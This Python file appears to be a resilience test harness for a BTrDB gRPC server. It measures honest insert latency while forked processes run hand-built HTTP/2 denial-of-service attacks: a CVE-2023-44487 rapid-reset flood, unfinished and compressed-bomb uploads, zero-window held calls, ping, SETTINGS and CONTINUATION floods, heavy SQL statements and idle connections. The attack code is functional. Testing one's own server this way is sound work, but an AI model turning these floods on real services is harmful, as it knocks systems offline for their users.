"""Attacks on a server by hand-made HTTP/2, and honest clients measured beside them."""

from __future__ import annotations

import contextlib
import multiprocessing
import os
import socket
import struct
import time
from collections.abc import Callable, Iterator
from typing import Any, Self

import pingthings.timeseries as pt
from pingthings.timeseries.exceptions import BTrDBError
from server import frames
from server.statements import STATEMENTS

MEBIBYTE = 1 << 20


class Honest:
    """A client that inserts one point after the other, and what became of it."""

    def __init__(self, endpoint: str, stream: pt.Stream, apikey: str | None = None) -> None:
        self.seconds: list[float] = []
        self.failed: list[Exception] = []
        self._client = pt.connect(endpoint=endpoint, apikey=apikey)
        self._stream = self._client.stream_from_uuid(stream.uuid)
        self._time = 1 << 40

    def insert(self, count: int) -> None:
        for _ in range(count):
            self._time += 1
            began = time.monotonic()
            try:
                self._stream.insert([(self._time, 1.0)])
            except BTrDBError as error:
                self.failed.append(error)
            self.seconds.append(time.monotonic() - began)

    def insert_for(self, seconds: float) -> None:
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            self.insert(1)

    def close(self) -> None:
        self._client.close()

    def __str__(self) -> str:
        ordered = sorted(self.seconds)
        at = [ordered[int(len(ordered) * share)] * 1e3 for share in (0.5, 0.99)]
        return (
            f"{len(ordered)} inserts, {len(self.failed)} failed, p50 {at[0]:.1f} ms, "
            f"p99 {at[1]:.1f} ms, longest {ordered[-1] * 1e3:.1f} ms"
        )


# Attackers inherit what they attack with, and nothing of theirs is sent back but two numbers.
_FORKED = multiprocessing.get_context("fork")


class Attack:
    """Processes that attack until the attack is over.

    They are other machines in earnest, so they run only while neither the server nor the honest
    client wants the processor, and share no interpreter with the latter.
    """

    def __init__(self, attack: Callable[[Attack], None], attackers: int) -> None:
        self.is_over = _FORKED.Event()
        # What was sent, in whatever the attack counts, and how many connections it took.
        self._sent = _FORKED.Value("q", 0)
        self._connections = _FORKED.Value("q", 0)
        self._attackers = [
            _FORKED.Process(target=self._run, args=(attack,), daemon=True) for _ in range(attackers)
        ]

    @property
    def sent(self) -> int:
        return int(self._sent.value)

    @property
    def connections(self) -> int:
        return int(self._connections.value)

    def count(self, sent: int, connections: int = 0) -> None:
        with self._sent.get_lock():
            self._sent.value += sent
        with self._connections.get_lock():
            self._connections.value += connections

    def _run(self, attack: Callable[[Attack], None]) -> None:
        os.nice(19)
        attack(self)

    def __enter__(self) -> Self:
        for attacker in self._attackers:
            attacker.start()
        return self

    def __exit__(self, *_exc: object) -> None:
        self.is_over.set()
        for attacker in self._attackers:
            attacker.join(60)


def rapid_reset(endpoint: str, *headers: tuple[str, str]) -> Callable[[Attack], None]:
    """CVE-2023-44487: calls that are given up as they are made, as fast as the server reads."""
    calls = 20_000
    flood = b"".join(
        frames.call(stream, "/v5api.BTrDB/ArrowRawValues", *headers) + frames.reset(stream)
        for stream in range(1, 2 * calls, 2)
    )

    def attack(of: Attack) -> None:
        while not of.is_over.is_set():
            with contextlib.suppress(OSError), frames.opened(endpoint) as connection:
                of.count(0, connections=1)
                at = 0
                while at < len(flood) and not of.is_over.is_set():
                    at += connection.send(flood[at : at + 65_536])
                    of.count(calls * min(65_536, len(flood)) // len(flood))
                frames.drained(connection, 0.5)

    return attack


class Uploads:
    """A connection that sends as much of its requests as the windows of the server allow."""

    def __init__(self, endpoint: str) -> None:
        self.connection = frames.opened(endpoint)
        self._window = 65_535
        self._first = 65_535
        self._windows: dict[int, int] = {}
        self._received = b""
        self.answered: set[int] = set()

    def begin(self, stream: int, path: str, length: int | None, *headers: tuple[str, str]) -> None:
        """Begins a call, and its message if that has a length already."""
        self.connection.sendall(frames.call(stream, path, *headers))
        self._windows[stream] = self._first
        if length is not None:
            self.send(stream, b"\0" + struct.pack(">I", length))

    def send(self, stream: int, data: bytes, *, is_last: bool = False) -> bool:
        """Whether all of it was taken before the server answered the call."""
        while data:
            room = min(self._window, self._windows[stream], len(data), 16_384)
            if stream in self.answered:
                return False
            if room == 0:
                self.receive()
                continue
            flags = frames.END_STREAM if is_last and room == len(data) else 0
            self.connection.sendall(frames.frame(frames.DATA, flags, stream, data[:room]))
            self._window -= room
            self._windows[stream] -= room
            data = data[room:]
        return True

    def receive(self) -> None:
        received = self.connection.recv(1 << 16)
        if not received:
            raise ConnectionError("closed by the server")
        self._received += received
        while len(self._received) >= frames.HEAD:
            length = int.from_bytes(self._received[:3], "big")
            if len(self._received) < frames.HEAD + length:
                return
            kind = self._received[3]
            stream = int.from_bytes(self._received[5:9], "big")
            payload = self._received[frames.HEAD : frames.HEAD + length]
            flags = self._received[4]
            self._received = self._received[frames.HEAD + length :]
            self._take(kind, flags, stream, payload)

    def _take(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
        if kind == frames.WINDOW_UPDATE:
            more = int.from_bytes(payload, "big")
            if stream == 0:
                self._window += more
            elif stream in self._windows:
                self._windows[stream] += more
        elif kind == frames.SETTINGS and not flags:
            for at in range(0, len(payload), 6):
                name, value = struct.unpack(">HI", payload[at : at + 6])
                if name == frames.INITIAL_WINDOW_SIZE:
                    for known in self._windows:
                        self._windows[known] += value - self._first
                    self._first = value
            self.connection.sendall(frames.frame(frames.SETTINGS, 1, 0))
        elif kind in {frames.HEADERS, frames.RST_STREAM} and stream:
            self.answered.add(stream)
        elif kind == frames.GOAWAY:
            raise ConnectionError("told to go away")


def unfinished_uploads(
    endpoint: str, megabytes: int, calls: int = 1, *headers: tuple[str, str]
) -> Callable[[Attack], None]:
    """Requests that are sent but for their end, and kept."""

    def attack(of: Attack) -> None:
        part = bytes(MEBIBYTE)
        while not of.is_over.is_set():
            with contextlib.suppress(OSError):
                uploads = Uploads(endpoint)
                of.count(0, connections=1)
                with uploads.connection:
                    for call in range(calls):
                        stream = 2 * call + 1
                        path = "/v5api.BTrDB/ArrowInsert"
                        uploads.begin(stream, path, (megabytes + 1) * MEBIBYTE, *headers)
                        for _ in range(megabytes):
                            if of.is_over.is_set() or not uploads.send(stream, part):
                                break
                            of.count(MEBIBYTE)
                    # What is sent stays with the server for as long as it likes.
                    uploads.connection.settimeout(0.5)
                    with contextlib.suppress(TimeoutError):
                        while not of.is_over.is_set() and uploads.connection.recv(1 << 16):
                            pass

    return attack


def packed_uploads(endpoint: str, packed: bytes, encoding: str) -> Callable[[Attack], None]:
    """Requests that are small only while they are packed, as many at a time as are answered."""
    path = "/v5api.BTrDB/ArrowInsert"

    def attack(of: Attack) -> None:
        while not of.is_over.is_set():
            with contextlib.suppress(OSError):
                uploads = Uploads(endpoint)
                of.count(0, connections=1)
                with uploads.connection:
                    for stream in range(1, 2_000, 2):
                        if of.is_over.is_set():
                            break
                        uploads.begin(stream, path, None, ("grpc-encoding", encoding))
                        message = b"\1" + struct.pack(">I", len(packed)) + packed
                        if uploads.send(stream, message, is_last=True):
                            of.count(len(message))
                        # Sixteen are on their way on each connection.
                        while stream - 2 * len(uploads.answered) > 32:
                            uploads.receive()

    return attack


def waiting_calls(
    endpoint: str,
    path: str,
    of_each: int,
    *headers: tuple[str, str],
    message: bytes | None = None,
) -> Callable[[Attack], None]:
    """Calls that are kept waiting, `of_each` on each of ever more connections.

    Without a message they wait for the rest of their request, with one for somebody who takes the
    answer: there is no window for it.
    """
    request = b"" if message is None else frames.message(message)
    calls = b"".join(
        frames.call(stream, path, *headers)
        + (b"" if message is None else frames.frame(frames.DATA, 1, stream, request))
        for stream in range(1, 2 * of_each, 2)
    )

    def attack(of: Attack) -> None:
        with contextlib.ExitStack() as held:
            for _ in range(50):
                if of.is_over.is_set():
                    return
                with contextlib.suppress(OSError):
                    window = (frames.INITIAL_WINDOW_SIZE, 0)
                    connection = held.enter_context(frames.opened(endpoint, window))
                    connection.sendall(calls)
                    of.count(of_each, connections=1)
            of.is_over.wait()

    return attack


def flood(endpoint: str, flood: bytes, *, before: bytes = b"") -> Callable[[Attack], None]:
    """The same frames again and again, of whose answers nobody reads any."""

    def attack(of: Attack) -> None:
        while not of.is_over.is_set():
            with contextlib.suppress(OSError), frames.opened(endpoint) as connection:
                of.count(0, connections=1)
                connection.settimeout(0.5)
                connection.sendall(before)
                while not of.is_over.is_set():
                    connection.sendall(flood)
                    of.count(len(flood))

    return attack


def statements(endpoint: str, apikey: str) -> Callable[[Attack], None]:
    """Statements that want much, one after the other, whatever becomes of them."""

    def attack(of: Attack) -> None:
        with pt.connect(endpoint=endpoint, apikey=apikey) as client:
            client.deadline = 2.0
            while not of.is_over.is_set():
                for statement in STATEMENTS.values():
                    if of.is_over.is_set():
                        break
                    with contextlib.suppress(BTrDBError):
                        client.sql_query(statement)
                    of.count(1)

    return attack


# Frames that cost their sender nothing: pings and settings to answer, headers without an end.
FLOODS = {
    "pings": (frames.frame(frames.PING, 0, 0, bytes(8)) * 1_000, b""),
    "settings": (frames.frame(frames.SETTINGS, 0, 0, bytes(6 * 10)) * 500, b""),
    "headers": (
        frames.frame(frames.CONTINUATION, 0, 1, frames.literal("x", "y" * 100) * 100),
        frames.frame(frames.HEADERS, 0, 1, frames.literal(":method", "POST")),
    ),
    "empty headers": (
        frames.frame(frames.CONTINUATION, 0, 1) * 1_000,
        frames.frame(frames.HEADERS, 0, 1, frames.literal(":method", "POST")),
    ),
}


@contextlib.contextmanager
def idle(endpoint: str, count: int) -> Iterator[list[socket.socket]]:
    """Connections by which nobody ever calls."""
    with contextlib.ExitStack() as held:
        yield [held.enter_context(frames.plain(endpoint)) for _ in range(count)]


def most_memory(process: Any) -> int:
    """The most memory that a process has had, in bytes."""
    with open(f"/proc/{process.pid}/status", encoding="ascii") as lines:  # noqa: PTH123
        for line in lines:
            if line.startswith("VmHWM:"):
                return int(line.split()[1]) * 1_024
    raise ValueError("the system does not say")
